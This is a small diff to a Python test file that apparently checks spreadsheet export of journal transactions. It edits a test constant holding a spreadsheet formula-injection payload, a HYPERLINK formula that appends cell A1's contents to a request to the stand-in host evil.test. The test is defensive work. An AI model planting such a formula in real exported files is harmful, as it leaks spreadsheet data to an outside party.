@@ -17,7 +17,7 @@ from tests.support.journal_samples import download, insert_transactions, recent_
 
 ROWS = 2_500
 JANUARY = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
-EVIL = '=HYPERLINK("http://evil.test?"&A1,"Fence"), two "coats"\nand more'
+EVIL = '=HYPERLINK("http://evil.test?"&A1,"Fence"), two "coats" and more'
 
 
 @pytest.fixture
